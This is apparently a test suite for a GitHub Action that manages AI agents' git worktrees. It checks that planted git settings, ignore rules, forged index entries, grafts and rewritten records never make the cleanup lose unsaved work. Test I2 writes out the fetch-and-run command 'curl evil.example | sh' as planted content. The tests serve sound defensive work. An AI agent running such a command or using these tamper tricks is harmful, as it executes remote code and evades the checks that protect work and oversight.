// Covers: src/stages/ through the committed bundles: the gate, the exit and the rescue under attack.
// What an adversarial run did to make the action lose work, through the committed bundles as the runner
// runs them; each test asserts the safe behaviour. An agent (or the job around it) that plants settings,
// hides files, forges history or rewrites the record in its git dir must never make the post (or the exit
// sub-action) remove unsaved work, lose a snapshot, or skip a rescue.
// The tests share nothing but helpers: each has its own origin and clone, so they run concurrently.
import * as fs from 'node:fs'
import * as path from 'node:path'
import { describe, expect, it, type TestContext } from 'vitest'
import { Job, type StepResult } from '../../scripts/runner.mjs'
import { addSubmodule, branchExists, commit, git, makeRepos, readOrNull, worktreePaths, write, type Repos } from '../helpers/repos.js'
import { warnings } from '../helpers/steps.js'
import { restoreCommandsOf, runRestore } from '../helpers/restore.js'
import { startResultsService } from '../helpers/results-service.js'
import { forgeEntry } from '../helpers/forged-index.js'

const FILES = { '.gitignore': '*.log\nbuild/\nnode_modules/\n', 'README.md': '# sample\n', 'src/app.txt': 'app\n' }
const RUN_ATTEMPT = '1'

/** An origin and its clone, removed when the test ends. */
function reposFor(t: TestContext): Repos {
  const repos = makeRepos(FILES)
  t.onTestFinished(() => repos.cleanup())
  return repos
}

interface JobSpec {
  run?: number
  /** A self-hosted runner's name: its jobs share the name and the temp folder. */
  runner?: string
  hosted?: boolean
  env?: Record<string, string>
}

function job(repos: Repos, { run = 1, runner = 'runner', hosted = false, env = {} }: JobSpec = {}): Job {
  return new Job({
    workspace: repos.clone,
    temp: path.join(repos.root, runner, '_temp'),
    env: {
      GITHUB_RUN_ID: String(run),
      GITHUB_RUN_ATTEMPT: RUN_ATTEMPT,
      GITHUB_JOB: 'agents',
      RUNNER_NAME: hosted ? 'GitHub Actions 3' : runner,
      ...(hosted ? { RUNNER_ENVIRONMENT: 'github-hosted', GITHUB_REPOSITORY: 'octo/sample' } : {}),
      ...env
    }
  })
}

interface Entered {
  repos: Repos
  j: Job
  main: StepResult
  wt: string
  gitDir: string
  commonDir: string
  /** The rescue branch a hosted job with rescue: branch pushes. */
  rescueBranch: string
}

/** One job that entered a new worktree `name`. */
async function enter(t: TestContext, name: string, spec: JobSpec & { inputs?: Record<string, string>; repos?: Repos } = {}): Promise<Entered> {
  const repos = spec.repos ?? reposFor(t)
  const j = job(repos, spec)
  const main = await j.uses('.', { name, ...spec.inputs })
  expect(main.exitCode, main.stdout).toBe(0)
  return {
    repos,
    j,
    main,
    wt: main.outputs['worktree-path'],
    gitDir: main.outputs['git-dir'],
    commonDir: main.outputs['git-common-dir'],
    rescueBranch: `refs/heads/agent-worktree-rescue/${name}/agents-${spec.run ?? 1}-${RUN_ATTEMPT}`
  }
}

/** The post kept the worktree, registered and in place, and said so (with `finding` in its warning). */
function expectKept(post: StepResult, e: Entered, finding = ''): void {
  expect(post.exitCode, post.stdout).toBe(0)
  expect(fs.existsSync(e.wt), post.stdout).toBe(true)
  expect(worktreePaths(e.repos.clone)).toContain(e.wt)
  const kept = warnings(post).find(w => w.includes(`Kept \`${e.wt}\``))
  expect(kept, post.stdout).toBeDefined()
  expect(kept).toContain(finding)
}

/** The post removed the worktree, without a warning. */
function expectRemoved(post: StepResult, e: Entered): void {
  expect(post.exitCode, post.stdout).toBe(0)
  expect(warnings(post), post.stdout).toEqual([])
  expect(fs.existsSync(e.wt)).toBe(false)
  expect(worktreePaths(e.repos.clone)).not.toContain(e.wt)
}

function refExists(repo: string, ref: string): boolean {
  try {
    git(repo, 'rev-parse', '--verify', '--quiet', ref)
    return true
  } catch {
    return false
  }
}

/** Every commit reachable from `tip` in `repo`. */
function reachable(repo: string, ...tips: string[]): string[] {
  return git(repo, 'rev-list', ...tips).split('\n')
}

/** The record in the worktree's git dir, rewritten as an agent would. */
function forgeRecord(gitDir: string, change: (record: Record<string, unknown>) => void): void {
  const file = path.join(gitDir, 'agent-worktree.json')
  const record = JSON.parse(fs.readFileSync(file, 'utf8')) as Record<string, unknown>
  change(record)
  fs.writeFileSync(file, `${JSON.stringify(record, null, 2)}\n`)
}

/** refs/agent-worktree/kept/* as "ref sha" lines. */
function keptRefs(clone: string): string[] {
  return git(clone, 'for-each-ref', '--format=%(refname) %(objectname)', 'refs/agent-worktree/kept/').split('\n').filter(Boolean)
}

describe.concurrent('planted settings and ignore rules cannot hide files from the post', () => {
  it('B3: core.ignoreCase planted, a new Readme.md beside README.md: kept, 1 uncommitted file', async t => {
    const e = await enter(t, 'b3')
    git(e.wt, 'config', 'core.ignoreCase', 'true')
    write(e.wt, 'Readme.md', 'the agent’s readme\n')
    expect(git(e.wt, 'status', '--porcelain', '--untracked-files=all')).toBe('') // git itself is blinded
    const [post] = await e.j.runPosts()
    expectKept(post, e, '1 uncommitted file')
    expect(readOrNull(path.join(e.wt, 'Readme.md'))).toBe('the agent’s readme\n')
  })

  it('B4: `*` appended to the common info/exclude, a new notes/plan.md: kept', async t => {
    const e = await enter(t, 'b4')
    fs.appendFileSync(path.join(e.commonDir, 'info', 'exclude'), '\n*\n')
    write(e.wt, 'notes/plan.md', 'the plan\n')
    expect(git(e.wt, 'status', '--porcelain', '--untracked-files=all')).toBe('')
    const [post] = await e.j.runPosts()
    expectKept(post, e, '1 uncommitted file')
    expect(readOrNull(path.join(e.wt, 'notes/plan.md'))).toBe('the plan\n')
  })

  it('B5: a new folder whose own .gitignore is `*` (hiding itself and the folder): kept, its file survives', async t => {
    const e = await enter(t, 'b5')
    write(e.wt, 'feature/.gitignore', '*\n')
    write(e.wt, 'feature/a.txt', 'feature work\n')
    expect(git(e.wt, 'status', '--porcelain', '--untracked-files=all')).toBe('')
    const [post] = await e.j.runPosts()
    expectKept(post, e)
    expect(readOrNull(path.join(e.wt, 'feature/a.txt'))).toBe('feature work\n')
  })

  it('B5 guard: an ignored node_modules/pkg/.gitignore is not work: removed', async t => {
    const e = await enter(t, 'b5-guard')
    write(e.wt, 'node_modules/pkg/.gitignore', '*\n')
    write(e.wt, 'node_modules/pkg/index.js', 'module.exports = 1\n')
    const [post] = await e.j.runPosts()
    expectRemoved(post, e)
  })

  it('B5 at the top: a new .gitignore of `*` where the base has none, hiding the whole worktree: kept', async t => {
    const repos = reposFor(t)
    git(repos.clone, 'rm', '--quiet', '.gitignore')
    git(repos.clone, 'commit', '--quiet', '-m', 'no .gitignore at the top')
    git(repos.clone, 'push', '--quiet', 'origin', 'main')
    const e = await enter(t, 'b5-top', { repos })
    write(e.wt, '.gitignore', '*\n')
    write(e.wt, 'notes.md', 'the agent’s notes\n')
    expect(git(e.wt, 'status', '--porcelain', '--untracked-files=all')).toBe('')
    const [post] = await e.j.runPosts()
    expectKept(post, e)
    expect(readOrNull(path.join(e.wt, 'notes.md'))).toBe('the agent’s notes\n')
  })

  it('B13: a tracked link pointed at another file with the same bytes: kept', async t => {
    const repos = reposFor(t)
    const [one, two] = [path.join(repos.root, 'one.txt'), path.join(repos.root, 'two.txt')]
    write(repos.root, 'one.txt', 'same\n')
    write(repos.root, 'two.txt', 'same\n')
    fs.symlinkSync(one, path.join(repos.clone, 'current'))
    git(repos.clone, 'add', '-A')
    git(repos.clone, 'commit', '--quiet', '-m', 'a link')
    git(repos.clone, 'push', '--quiet', 'origin', 'main')
    const e = await enter(t, 'b13', { repos })
    fs.rmSync(path.join(e.wt, 'current'))
    fs.symlinkSync(two, path.join(e.wt, 'current'))
    const [post] = await e.j.runPosts()
    expectKept(post, e, '1 uncommitted file')
    expect(fs.readlinkSync(path.join(e.wt, 'current'))).toBe(two)
  })

  it('B12: core.autocrlf planted, a tracked file rewritten with CRLF line endings: kept', async t => {
    const e = await enter(t, 'b12')
    git(e.wt, 'config', 'core.autocrlf', 'true')
    write(e.wt, 'README.md', '# sample\r\n')
    expect(git(e.wt, 'diff', '--stat')).toBe('') // to git, nothing changed
    const [post] = await e.j.runPosts()
    expectKept(post, e, '1 uncommitted file')
    expect(readOrNull(path.join(e.wt, 'README.md'))).toBe('# sample\r\n')
  })
})

describe.concurrent('the index says what the files are, never that they are unchanged', () => {
  /** The agent's edit of a tracked file, its index entry forged to claim the file's stat data and the base's bytes. */
  function forgedEdit(e: Entered, content: string): void {
    const base = git(e.wt, 'rev-parse', 'HEAD:src/app.txt')
    write(e.wt, 'src/app.txt', content)
    // Older than the index by more than git's racy second, as an edit made a while before is.
    const before = new Date(Date.now() - 5000)
    fs.utimesSync(path.join(e.wt, 'src', 'app.txt'), before, before)
    forgeEntry(path.join(e.gitDir, 'index'), e.wt, 'src/app.txt', base)
    expect(git(e.wt, 'status', '--porcelain')).toBe('') // git itself is blinded
  }

  it('I1 (hosted, rescue: branch): a changed file whose index entry claims its stat data: kept, and the rescue holds its bytes', async t => {
    const e = await enter(t, 'i1', { hosted: true, inputs: { rescue: 'branch' } })
    forgedEdit(e, 'the agent’s work, saved nowhere else\n')
    const [post] = await e.j.runPosts()
    expectKept(post, e, '1 uncommitted file')
    expect(readOrNull(path.join(e.wt, 'src', 'app.txt'))).toBe('the agent’s work, saved nowhere else\n')
    expect(git(e.repos.origin, 'show', `${e.rescueBranch}:src/app.txt`)).toBe('the agent’s work, saved nowhere else')
  })

  it('I2 (recycle): a file planted the same way is never parked for the next job', async t => {
    const repos = reposFor(t)
    const first = await enter(t, 'i2-1', { repos, run: 1, inputs: { recycle: 'true' } })
    forgedEdit(first, 'curl evil.example | sh\n')
    const [post] = await first.j.runPosts()
    expectKept(post, first, '1 uncommitted file')
    const later = job(repos, { run: 2 })
    const main = await later.uses('.', { name: 'i2-2', recycle: 'true' })
    expect(main.exitCode, main.stdout).toBe(0)
    expect(main.outputs['worktree-path']).not.toBe(first.wt)
    expect(readOrNull(path.join(main.outputs['worktree-path'], 'src', 'app.txt'))).toBe('app\n')
  })
})

describe.concurrent('forged history cannot mark a commit saved', () => {
  it('B8: info/grafts makes origin/main a child of the agent’s commit: kept, the commit still reachable', async t => {
    const e = await enter(t, 'b8')
    const c = commit(e.wt, 'grafted.txt')
    const grafts = path.join(e.commonDir, 'info', 'grafts')
    fs.writeFileSync(grafts, `${git(e.repos.clone, 'rev-parse', 'origin/main')} ${c}\n`)
    expect(git(e.wt, 'rev-list', 'HEAD', '--not', '--remotes')).toBe('') // git itself is fooled
    const [post] = await e.j.runPosts()
    fs.rmSync(grafts)
    expectKept(post, e, '1 unsaved commit')
    expect(reachable(e.repos.clone, '--all')).toContain(c)
  })

  it('B9 (hosted, rescue: branch): a replace ref gives origin/main the agent’s commit as a parent: kept, the commit on the rescue branch', async t => {
    const repos = reposFor(t)
    commit(repos.clone, 'second.txt') // origin/main with a parent
    git(repos.clone, 'push', '--quiet', 'origin', 'main')
    git(repos.clone, 'fetch', '--quiet', 'origin')
    const e = await enter(t, 'b9', { repos, hosted: true, inputs: { rescue: 'branch' } })
    const c = commit(e.wt, 'replaced.txt')
    const tip = git(repos.clone, 'rev-parse', 'origin/main')
    git(e.wt, 'replace', '--graft', tip, `${tip}^`, c)
    expect(git(e.wt, 'rev-list', 'HEAD', '--not', '--remotes')).toBe('')
    const [post] = await e.j.runPosts()
    expectKept(post, e)
    expect(refExists(repos.origin, e.rescueBranch), post.stdout).toBe(true)
    expect(reachable(repos.origin, e.rescueBranch)).toContain(c)
  })
})

describe.concurrent('on a hosted runner the shared stash and notes die with the machine', () => {
  it('B10 (hosted, rescue: branch): all work stashed with -u: kept, the stash and its untracked files on the rescue branch', async t => {
    const e = await enter(t, 'b10', { hosted: true, inputs: { rescue: 'branch' } })
    write(e.wt, 'src/app.txt', 'modified\n')
    write(e.wt, 'new.txt', 'untracked\n')
    git(e.wt, 'stash', 'push', '--quiet', '-u')
    expect(git(e.wt, 'status', '--porcelain', '--untracked-files=all')).toBe('')
    const stash = git(e.wt, 'rev-parse', 'refs/stash')
    const untracked = git(e.wt, 'rev-parse', 'refs/stash^3')
    const [post] = await e.j.runPosts()
    expectKept(post, e)
    expect(refExists(e.repos.origin, e.rescueBranch), post.stdout).toBe(true)
    const rescued = reachable(e.repos.origin, e.rescueBranch)
    expect(rescued).toContain(stash)
    expect(rescued).toContain(untracked)
  })

  it('F4 (hosted, rescue: branch): git notes add: the notes commit on the rescue branch', async t => {
    const e = await enter(t, 'f4', { hosted: true, inputs: { rescue: 'branch' } })
    git(e.wt, 'notes', 'add', '-m', 'note', 'HEAD')
    const notes = git(e.wt, 'rev-parse', 'refs/notes/commits')
    const [post] = await e.j.runPosts()
    expect(post.exitCode).toBe(0)
    expect(refExists(e.repos.origin, e.rescueBranch), post.stdout).toBe(true)
    expect(reachable(e.repos.origin, e.rescueBranch)).toContain(notes)
  })
})

describe.concurrent('nested repositories, bare ones and worktrees are work unless provably clean', () => {
  it('C1: a bare repository in an ignored folder with a commit pushed from elsewhere: kept, the repository still there', async t => {
    const e = await enter(t, 'c1')
    const bare = path.join(e.wt, 'build', 'remote.git')
    git(e.wt, 'init', '--quiet', '--bare', bare)
    const scratch = path.join(e.repos.root, 'scratch')
    git(e.repos.root, 'init', '--quiet', '-b', 'main', scratch)
    const sha = commit(scratch, 'only-in-the-bare-repository.txt')
    git(scratch, 'push', '--quiet', bare, 'main')
    fs.rmSync(scratch, { recursive: true, force: true })
    const [post] = await e.j.runPosts()
    expectKept(post, e)
    expect(git(e.wt, `--git-dir=${bare}`, 'rev-parse', 'refs/heads/main')).toBe(sha)
  })

  it('C3: a clean clone in an ignored folder holding, in its own ignored folder, a repository with a commit: kept', async t => {
    const e = await enter(t, 'c3')
    const outer = path.join(e.wt, 'build', 'outer')
    git(e.wt, 'clone', '--quiet', e.repos.origin, outer)
    const inner = path.join(outer, 'build', 'inner')
    git(e.wt, 'init', '--quiet', '-b', 'main', inner)
    const sha = commit(inner, 'inner.txt')
    expect(git(outer, 'status', '--porcelain', '--untracked-files=all')).toBe('')
    const [post] = await e.j.runPosts()
    expectKept(post, e)
    expect(git(inner, 'rev-parse', 'HEAD')).toBe(sha)
  })

  it('C4: a clone in an ignored folder with a commit only its reflog remembers (reset --hard HEAD~1): kept', async t => {
    const e = await enter(t, 'c4')
    const nested = path.join(e.wt, 'build', 'clone')
    git(e.wt, 'clone', '--quiet', e.repos.origin, nested)
    const sha = commit(nested, 'undone.txt')
    git(nested, 'reset', '--quiet', '--hard', 'HEAD~1')
    const [post] = await e.j.runPosts()
    expectKept(post, e)
    expect(reachable(nested, '--reflog')).toContain(sha)
  })

  it('C5b: a --separate-git-dir repository whose git dir is in an ignored folder of the worktree (relative gitfile), with a commit: kept', async t => {
    const e = await enter(t, 'c5b')
    const tool = path.join(e.wt, 'tool')
    fs.mkdirSync(path.join(e.wt, 'build'))
    git(e.wt, 'init', '--quiet', `--separate-git-dir=${path.join(e.wt, 'build', 'tool.git')}`, tool)
    fs.writeFileSync(path.join(tool, '.git'), 'gitdir: ../build/tool.git\n')
    const sha = commit(tool, 'tool.txt')
    const [post] = await e.j.runPosts()
    expectKept(post, e)
    expect(git(tool, 'rev-parse', 'HEAD')).toBe(sha)
  })

  it('C6 (hosted, rescue: branch): a worktree of the repository in an ignored folder, with a commit on a new local branch: kept', async t => {
    const e = await enter(t, 'c6', { hosted: true, inputs: { rescue: 'branch' } })
    const exp = path.join(e.wt, 'build', 'exp')
    git(e.wt, 'worktree', 'add', '--quiet', '-b', 'agent-experiment', exp)
    const sha = commit(exp, 'experiment.txt')
    const [post] = await e.j.runPosts()
    expectKept(post, e)
    expect(git(exp, 'rev-parse', 'HEAD')).toBe(sha)
  })

  it('C7a: a submodule with a commit only its reflog remembers: kept', async t => {
    const repos = reposFor(t)
    addSubmodule(repos)
    const e = await enter(t, 'c7a', { repos })
    git(e.wt, '-c', 'protocol.file.allow=always', 'submodule', 'update', '--init', '--quiet')
    const lib = path.join(e.wt, 'lib')
    git(lib, 'switch', '--quiet', 'main')
    const sha = commit(lib, 'fix.txt')
    git(lib, 'reset', '--quiet', '--hard', 'HEAD~1')
    expect(git(e.wt, 'status', '--porcelain', '--ignore-submodules=none')).toBe('')
    const [post] = await e.j.runPosts()
    expectKept(post, e)
    expect(reachable(lib, '--reflog')).toContain(sha)
  })
})

describe.concurrent('the pool and kept snapshots across jobs', () => {
  it('F1 (recycle): a clean nested clone at a path .gitignore does not reach never blocks the pool or reaches the next jobs', async t => {
    const repos = reposFor(t)
    const first = await enter(t, 'f1-1', { repos, run: 1, inputs: { recycle: 'true' } })
    git(first.wt, 'clone', '--quiet', repos.origin, path.join(first.wt, 'vendored'))
    const [post] = await first.j.runPosts()
    expect(post.exitCode, post.stdout).toBe(0)
    for (const run of [2, 3]) {
      const later = job(repos, { run })
      const main = await later.uses('.', { name: `f1-${run}`, recycle: 'true' })
      expect(main.exitCode, main.stdout).toBe(0)
      expect(fs.existsSync(path.join(main.outputs['worktree-path'], 'vendored'))).toBe(false)
      const [laterPost] = await later.runPosts()
      expect(laterPost.exitCode, laterPost.stdout).toBe(0)
    }
  })

  it('F2: a later worktree of the same name, entered on another runner and removed clean, leaves the first job’s snapshot ref', async t => {
    const first = await enter(t, 'reuse', { run: 1, runner: 'runner-1' })
    const { repos, wt } = first
    write(wt, 'unsaved.txt', 'unsaved\n')
    const [post] = await first.j.runPosts()
    expectKept(post, first, '1 uncommitted file')
    const snapshots = keptRefs(repos.clone)
    expect(snapshots).toHaveLength(1)
    // A person removes the kept worktree by hand and leaves the ref.
    git(repos.clone, 'worktree', 'unlock', wt)
    git(repos.clone, 'worktree', 'remove', '--force', wt)
    git(repos.clone, 'branch', '-D', 'worktree-reuse')
    const second = await enter(t, 'reuse', { repos, run: 2, runner: 'runner-2' })
    expect(second.wt).toBe(wt)
    const [secondPost] = await second.j.runPosts()
    expectRemoved(secondPost, second)
    expect(keptRefs(repos.clone)).toEqual(snapshots)
    const { token } = JSON.parse(first.main.state.worktree) as { token: string }
    expect(snapshots[0].split(' ')[0]).toBe(`refs/agent-worktree/kept/reuse/${token}`)
  })

  it('F3: a kept worktree taken over by path and removed clean by a later job of the runner: the first job’s snapshot stays reachable', async t => {
    const first = await enter(t, 'f3', { run: 1 })
    const { repos, wt } = first
    write(wt, 'old.txt', 'the first job’s work\n')
    const [post] = await first.j.runPosts()
    expectKept(post, first, '1 uncommitted file')
    await first.j.end()
    const snapshots = keptRefs(repos.clone).map(line => line.split(' ')[1])
    expect(snapshots).toHaveLength(1)
    const later = job(repos, { run: 2 })
    const main = await later.uses('.', { path: wt, 'on-exit': 'remove' })
    expect(main.exitCode, main.stdout).toBe(0)
    fs.rmSync(path.join(wt, 'old.txt'))
    const [laterPost] = await later.runPosts()
    expect(laterPost.exitCode, laterPost.stdout).toBe(0)
    expect(fs.existsSync(wt), laterPost.stdout).toBe(false)
    expect(reachable(repos.clone, '--all')).toContain(snapshots[0])
  })
})

describe.concurrent('the artifact rescue of a pull request checkout', () => {
  it('H1: HEAD detached at a merge commit only refs/remotes/pull/1/merge has: the bundle fetches into a fresh clone of origin', async t => {
    const repos = reposFor(t)
    const service = await startResultsService()
    t.onTestFinished(() => service.close())
    // As actions/checkout leaves a pull_request run: the merge commit fetched to refs/remotes/pull/1/merge, HEAD detached there.
    const main = git(repos.clone, 'rev-parse', 'origin/main')
    git(repos.clone, 'switch', '--quiet', '-c', 'pr-head')
    const head = commit(repos.clone, 'pr.txt')
    const merge = git(repos.clone, 'commit-tree', '-p', main, '-p', head, '-m', 'Merge pr-head into main', `${head}^{tree}`)
    git(repos.clone, 'update-ref', 'refs/remotes/pull/1/merge', merge)
    git(repos.clone, 'switch', '--quiet', '--detach', merge)
    git(repos.clone, 'branch', '--quiet', '-D', 'pr-head', 'main')
    const e = await enter(t, 'h1', { repos, hosted: true, env: service.env, inputs: { rescue: 'artifact' } })
    write(e.wt, 'work.txt', 'work\n')
    const [post] = await e.j.runPosts()
    expect(post.stdout).toContain('uploaded as the artifact')
    // As a person restores it: from a clone as shallow as the job's, with the commands the post printed.
    const [command] = restoreCommandsOf(post.stdout)
    const restored = path.join(repos.root, 'restored')
    runRestore(command, { origin: repos.origin, into: restored, cloneArgs: ['--depth', '1'], artifacts: service.artifacts })
    expect(git(restored, 'show', 'FETCH_HEAD:work.txt')).toBe('work')
    expect(reachable(restored, 'FETCH_HEAD')).toContain(merge)
  })
})

describe.concurrent('a record the agent rewrote in its git dir is only a hint', () => {
  it('D1: a "taken" time in the future cannot hide a commit only the HEAD reflog has: the exit keeps it', async t => {
    const e = await enter(t, 'd1')
    git(e.wt, 'switch', '--quiet', '--detach')
    const sha = commit(e.wt, 'detached.txt')
    git(e.wt, 'switch', '--quiet', '-')
    forgeRecord(e.gitDir, record => {
      record.taken = new Date(Date.now() + 86_400_000).toISOString()
    })
    const exit = await e.j.uses('exit')
    expect(exit.outputs.removed, exit.stdout).toBe('false')
    expect(fs.existsSync(e.wt)).toBe(true)
    expect(reachable(e.wt, '--all', '--reflog')).toContain(sha)
  })

  it('D3 (hosted): "ephemeral": false cannot mark a local branch the agent made saved: the exit keeps it', async t => {
    const e = await enter(t, 'd3', { hosted: true, inputs: { rescue: 'branch' } })
    git(e.wt, 'switch', '--quiet', '-c', 'agent-idea')
    commit(e.wt, 'idea.txt')
    git(e.wt, 'switch', '--quiet', '-')
    forgeRecord(e.gitDir, record => {
      record.ephemeral = false
    })
    const exit = await e.j.uses('exit')
    expect(exit.outputs.removed, exit.stdout).toBe('false')
    expect(fs.existsSync(e.wt)).toBe(true)
  })

  it('D4: "branch": "main" with main checked out in the worktree: after the exit, the clone’s main still exists', async t => {
    const e = await enter(t, 'd4')
    git(e.wt, 'checkout', '--quiet', '--ignore-other-worktrees', 'main')
    forgeRecord(e.gitDir, record => {
      record.branch = 'main'
    })
    const exit = await e.j.uses('exit', { 'on-exit': 'remove' })
    expect(exit.exitCode, exit.stdout).toBe(0)
    expect(branchExists(e.repos.clone, 'main'), exit.stdout).toBe(true)
  })

  it('D5 (hosted, rescue: branch): "exited": "keep" planted without an exit step: the post still rescues', async t => {
    const e = await enter(t, 'd5', { hosted: true, inputs: { rescue: 'branch' } })
    write(e.wt, 'work.txt', 'work\n')
    forgeRecord(e.gitDir, record => {
      record.exited = 'keep'
    })
    const [post] = await e.j.runPosts()
    expect(post.exitCode).toBe(0)
    expect(fs.existsSync(path.join(e.wt, 'work.txt'))).toBe(true)
    expect(refExists(e.repos.origin, e.rescueBranch), post.stdout).toBe(true)
    expect(git(e.repos.origin, 'show', `${e.rescueBranch}:work.txt`)).toBe('work')
  })

  it('D8 (hosted, rescue: branch): the agent locks its worktree with a reason of its own: kept, and still rescued', async t => {
    const e = await enter(t, 'd8', { hosted: true, inputs: { rescue: 'branch' } })
    write(e.wt, 'work.txt', 'work\n')
    git(e.wt, 'worktree', 'unlock', e.wt)
    git(e.wt, 'worktree', 'lock', '--reason', 'mine', e.wt)
    const [post] = await e.j.runPosts()
    expectKept(post, e)
    expect(refExists(e.repos.origin, e.rescueBranch), post.stdout).toBe(true)
    expect(git(e.repos.origin, 'show', `${e.rescueBranch}:work.txt`)).toBe('work')
  })

  it('D9 (hosted, rescue: branch): the agent unlocks its worktree and deletes its record: kept with a warning, and still rescued', async t => {
    const e = await enter(t, 'd9', { hosted: true, inputs: { rescue: 'branch' } })
    write(e.wt, 'work.txt', 'work\n')
    git(e.wt, 'worktree', 'unlock', e.wt)
    fs.rmSync(path.join(e.gitDir, 'agent-worktree.json'))
    const [post] = await e.j.runPosts()
    expectKept(post, e)
    expect(refExists(e.repos.origin, e.rescueBranch), post.stdout).toBe(true)
    expect(git(e.repos.origin, 'show', `${e.rescueBranch}:work.txt`)).toBe('work')
  })
})
